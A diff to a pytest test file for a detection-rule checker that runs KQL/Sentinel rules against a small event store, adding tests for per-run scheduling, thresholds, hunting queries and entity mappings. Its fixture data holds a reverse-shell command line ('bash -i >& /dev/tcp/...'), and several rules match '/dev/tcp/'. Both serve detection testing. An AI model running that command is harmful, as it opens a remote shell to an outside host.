@@ -13,6 +13,8 @@ import pytest
 
 ROOT = Path(__file__).resolve().parents[2]
 WHEN = "2026-03-05T10:00:00Z"
+#: The look-alike comes three hours after the attack: another hourly run.
+LATER = "2026-03-05T13:00:00Z"
 
 #: The tiny store: one attack and one look-alike (a hard negative) in DeviceProcessEvents.
 EVENTS = {
@@ -21,7 +23,7 @@ EVENTS = {
          "AccountName": "svc-app", "FolderPath": "/usr/bin/bash",
          "ProcessCommandLine": "bash -i >& /dev/tcp/198.51.100.9/4444 0>&1"}],
     "benign/sim_shell/DeviceProcessEvents.jsonl": [
-        {"ReportId": 300918273645, "Timestamp": WHEN, "DeviceName": "app-01",
+        {"ReportId": 300918273645, "Timestamp": LATER, "DeviceName": "app-01",
          "AccountName": "deploy", "FolderPath": "/usr/bin/bash",
          "ProcessCommandLine": "bash -c 'echo > /dev/tcp/db-01/5432'"}],
 }
@@ -146,13 +148,15 @@ def test_a_rule_without_test_data_is_marked_untested(project: pytest.Pytester) -
      "*connector AzureActiveDirectory does not deliver DeviceProcessEvents; the query reads "
      "DeviceProcessEvents, which no declared connector delivers*"),
     ({"threshold": 5}, "true_positives",
-     "*would not fire: the must-match events give 2 result rows, and the rule fires when that is "
-     "> 5 (triggerOperator gt)*"),
+     "*would not fire: the run ending 2026-03-16T00:00Z that reads the must-match events gives 2 "
+     "result rows, and the rule fires when that is > 5 (triggerOperator gt; it runs every 1h over "
+     "the last 1h)*"),
     ({"condition": '\n  | where AccountName == "nobody"'}, "true_positives",
      "*raised no alert on its 2 must-match events (DeviceProcessEvents)*"),
     ({"condition": ""}, "false_positives",
-     "*raised 1 false positives over the store's benign activity (max_false_positives: 0): "
-     "1 hard negatives, 0 background, e.g. *"),
+     "*raised 1 false-positive alerts over the store's benign activity (max_false_positives: 0) "
+     "in 336 runs every 1h over the last 1h, alerting when results > 0: their rows hold "
+     "1 hard negatives, 0 background, e.g. the run ending 2026-03-05T14:00Z: *"),
 ])
 def test_each_check_names_what_is_wrong(project: pytest.Pytester, changes: dict, check: str,
                                         message: str) -> None:
@@ -167,7 +171,8 @@ def test_must_not_match_events_and_the_budget(project: pytest.Pytester) -> None:
     result = project.runpytest()
     result.assert_outcomes(passed=6, failed=1)
     result.stdout.fnmatch_lines([
-        "*alerted on its must-not-match events: 1 alerts from 1 events, e.g. *deploy*"])
+        "*alerted on its must-not-match events: 1 alerting runs with 1 rows from 1 events, "
+        "e.g. *deploy*"])
 
 
 def test_broken_yaml_fails_parse_and_skips_the_rest(project: pytest.Pytester) -> None:
@@ -238,7 +243,8 @@ def test_sigma_and_kql_in_the_content_folder_use_the_rules_gate(project: pytest.
     result.stdout.fnmatch_lines(["*shell.yml::validate PASSED*"])
     result.stdout.fnmatch_lines(["'typo' (detections/typo.kql): does not run over the store: "
                                  "semantic error at 1:29: unknown column 'Nope'"])
-    result.assert_outcomes(passed=11, failed=1)
+    result.stdout.fnmatch_lines(["*hunt.kql::true_positives SKIPPED*"])
+    result.assert_outcomes(passed=11, failed=1, skipped=2)
 
 
 def test_a_sentinel_rule_under_rules_is_not_read_as_sigma(project: pytest.Pytester) -> None:
@@ -306,6 +312,35 @@ def test_published_rules_from_init_to_a_verdict(pytester: pytest.Pytester, store
         "column 'DeviceName'*"])
 
 
+def test_a_folder_of_rules_and_one_export_in_three_commands(pytester: pytest.Pytester,
+                                                            store_cache: Path) -> None:
+    # What docs/gating.md walks through: a few published rules and one portal export in a
+    # folder of their own; `ctirealm init` finds them, writes no example, and pytest judges them.
+    from ctirealm.cli import main
+
+    write_telemetry(pytester.path / "telemetry")
+    analytics = pytester.path / "analytics"
+    analytics.mkdir()
+    for name in ("ShadowCopyDeletion", "exchange_auditlogdisabled", "LaZagneCredTheft"):
+        shutil.copy(SAMPLE / f"{name}.yaml", analytics / f"{name}.yaml")
+    match = analytics / "ShadowCopyDeletion.tests" / "match"
+    match.mkdir(parents=True)
+    (match / "DeviceProcessEvents.csv").write_text(SHADOW_CSV)
+    assert main(["init", str(pytester.path)]) == 0
+    assert not (pytester.path / "detections").exists()
+    ini = pytester.path / "pytest.ini"
+    assert "testpaths = analytics\nrealm_content = analytics\n" in ini.read_text()
+    ini.write_text(ini.read_text() + f"addopts = --realm-cache-dir={store_cache} --realm-rows=0 "
+                                      "-p no:cacheprovider\n")
+    result = pytester.runpytest("-rs")
+    result.assert_outcomes(passed=16, failed=1, skipped=4)
+    assert result.ret == pytest.ExitCode.TESTS_FAILED
+    (analytics / "LaZagneCredTheft.yaml").unlink()
+    result = pytester.runpytest("-rs")
+    result.assert_outcomes(passed=13, skipped=1)
+    assert result.ret == pytest.ExitCode.OK
+
+
 def test_init_never_overwrites(tmp_path: Path) -> None:
     from ctirealm.cli.init import init
 
@@ -325,3 +360,146 @@ def test_the_content_hooks_load_no_engine_and_no_sigma() -> None:
             "print(json.dumps(sorted(m for m in ('duckdb', 'duckdb_kql', 'sigma') if m in sys.modules)))")
     done = subprocess.run([sys.executable, "-c", code], capture_output=True, text=True, check=True)
     assert json.loads(done.stdout) == []
+
+
+# -- scheduling: queryFrequency, queryPeriod, triggerOperator/triggerThreshold ---------------------
+
+ANY_SHELL = '\n  | where ProcessCommandLine has "/dev/tcp/"'
+
+
+def test_a_threshold_is_met_per_run_not_over_the_whole_window(project: pytest.Pytester) -> None:
+    # The store's two /dev/tcp events are three hours apart: no hourly run returns more than
+    # one row, so "more than 1" never fires over the background; the two must-match events
+    # fall in one run and fire it.
+    add_rule(project, "shell", rule(condition="", threshold=1), nomatch=None)
+    result = project.runpytest("-v")
+    result.assert_outcomes(passed=7)
+    add_rule(project, "strict", rule(condition="", threshold=2).replace("name: Interactive",
+                                                                        "name: Strict"),
+             nomatch=None)
+    result = project.runpytest("-v", "detections/strict.yaml")
+    result.stdout.fnmatch_lines([
+        "*'Strict reverse shell' (detections/strict.yaml): would not fire: the run ending "
+        "2026-03-16T00:00Z that reads the must-match events gives 2 result rows, and the rule "
+        "fires when that is > 2 (triggerOperator gt; it runs every 1h over the last 1h)*"])
+
+
+def test_a_clock_dependent_query_runs_per_window_with_now_pinned(project: pytest.Pytester) -> None:
+    # ago() is relative to each run's end: were now() the dataset's clock, no run in the
+    # middle of the window would see the store's events at all.
+    query = rule(condition="").replace("  DeviceProcessEvents\n",
+                                       "  DeviceProcessEvents\n  | where Timestamp > ago(2h)\n")
+    add_rule(project, "shell", query)
+    result = project.runpytest("-v")
+    result.stdout.fnmatch_lines(["*shell.yaml::true_positives PASSED*"])
+    result.stdout.fnmatch_lines([
+        "*raised 1 false-positive alerts over the store's benign activity (max_false_positives: 0) "
+        "in 336 runs every 1h over the last 1h, alerting when results > 0: their rows hold "
+        "1 hard negatives, 0 background, e.g. the run ending 2026-03-05T14:00Z: *deploy*"])
+    result.stdout.fnmatch_lines([
+        "336 runs (every 1h over the last 1h, alerting when results > 0), per run: not binned: "
+        "it calls ago(); 2 raise alerts"])
+
+
+def test_an_aggregating_rule_counts_within_each_run(project: pytest.Pytester) -> None:
+    # Over the whole window the store's two events on app-01 make a group of 2; no hourly
+    # run sees more than one of them. The two must-match events share a run on app-07.
+    text = rule(condition="").replace(
+        "  | project Timestamp, DeviceName, AccountName, ProcessCommandLine, ReportId\n",
+        "  | summarize Events = count(), Accounts = make_set(AccountName) by DeviceName\n"
+        "  | where Events > 1\n")
+    add_rule(project, "shell", text)
+    result = project.runpytest("-v", "-rA")
+    result.assert_outcomes(passed=7)
+    result.stdout.fnmatch_lines([
+        "336 runs (every 1h over the last 1h, alerting when results > 0), per run: not binned: "
+        "it aggregates across the lookback (summarize); 0 raise alerts"])
+
+
+def test_iso_durations_and_a_daily_schedule(project: pytest.Pytester) -> None:
+    text = rule().replace("queryFrequency: 1h", "queryFrequency: PT12H").replace(
+        "queryPeriod: 1h", "queryPeriod: P1D")
+    add_rule(project, "shell", text)
+    result = project.runpytest("-v", "-rA")
+    result.assert_outcomes(passed=7)
+    result.stdout.fnmatch_lines([
+        "28 runs (every 12h over the last 1d, alerting when results > 0), binned; * raise alerts"])
+
+
+# -- hunting queries ----------------------------------------------------------------------------
+
+HUNTING = """\
+id: 9d1c6b0e-2f4a-4c8e-b1d7-5e3f2a1b0c9d
+name: Shells talking to /dev/tcp
+description: Every shell whose command line opens a TCP connection through /dev/tcp.
+requiredDataConnectors:
+  - connectorId: MicrosoftThreatProtection
+    dataTypes:
+      - DeviceProcessEvents
+tactics:
+  - Execution
+relevantTechniques:
+  - T1059.004
+query: |
+  DeviceProcessEvents
+  | where ProcessCommandLine has "/dev/tcp/"
+  | project Timestamp, DeviceName, AccountName, ProcessCommandLine, ReportId
+entityMappings:
+  - entityType: Host
+    fieldMappings:
+      - identifier: HostName
+        columnName: DeviceName
+"""
+
+
+def test_a_hunting_query_without_test_data_is_checked_and_marked_untested(
+        project: pytest.Pytester) -> None:
+    (project.path / "detections" / "hunt.yaml").write_text(HUNTING)
+    (project.path / "detections" / "bare.kql").write_text(
+        '// Defender advanced hunting\nDeviceProcessEvents | where ProcessCommandLine has "/dev/tcp/"\n')
+    result = project.runpytest("-v", "-rs")
+    for check in ("parse", "runs", "connectors", "entities", "attack"):
+        result.stdout.fnmatch_lines([f"*hunt.yaml::{check} PASSED*"])
+    result.stdout.fnmatch_lines(["*bare.kql::parse PASSED*", "*bare.kql::runs PASSED*"])
+    result.stdout.fnmatch_lines(["*untested: no must-match events in detections/bare.tests/match/*"])
+    result.stdout.fnmatch_lines(["*untested: no must-match events in detections/hunt.tests/match/*"])
+    result.assert_outcomes(passed=7, skipped=2)
+
+
+def test_a_hunting_query_returns_its_must_match_events(project: pytest.Pytester) -> None:
+    (project.path / "detections" / "hunt.yaml").write_text(HUNTING)
+    match = project.path / "detections" / "hunt.tests" / "match"
+    match.mkdir(parents=True)
+    (match / "DeviceProcessEvents.csv").write_text(MATCH_CSV)
+    (project.path / "detections" / "narrow.kql").write_text(
+        'DeviceProcessEvents | where ProcessCommandLine has "4444" | project ReportId, DeviceName\n')
+    match = project.path / "detections" / "narrow.tests" / "match"
+    match.mkdir(parents=True)
+    (match / "DeviceProcessEvents.csv").write_text(MATCH_CSV)
+    result = project.runpytest("-v")
+    result.stdout.fnmatch_lines(["*hunt.yaml::true_positives PASSED*"])
+    result.stdout.fnmatch_lines(["'narrow' (detections/narrow.kql): missed 1 of 2 must-match "
+                                 "events: *"])
+    result.assert_outcomes(passed=8, failed=1)
+
+
+# -- entity mappings, strictly ------------------------------------------------------------------
+
+def test_a_mapped_column_must_hold_a_value_on_every_matched_row(project: pytest.Pytester) -> None:
+    text = rule().replace("""        columnName: DeviceName
+""", """        columnName: DeviceName
+  - entityType: Account
+    fieldMappings:
+      - identifier: Name
+        columnName: AccountName
+""")
+    blank = MATCH_CSV.replace('"11/4/2025, 2:09:40.000 PM",app-07,svc-tomcat,',
+                              '"11/4/2025, 2:09:40.000 PM",app-07,,')
+    add_rule(project, "shell", text, match=blank)
+    result = project.runpytest("-v")
+    result.stdout.fnmatch_lines(["*shell.yaml::entities FAILED*"])
+    result.stdout.fnmatch_lines([
+        "'Interactive reverse shell' (detections/shell.yaml): mapped columns without a value on "
+        "the rows the must-match events raise (Sentinel drops such an entity from the alert): "
+        "entity Account, identifier Name: column AccountName is empty on 1 of 2, e.g. *"])
+    result.assert_outcomes(passed=6, failed=1)
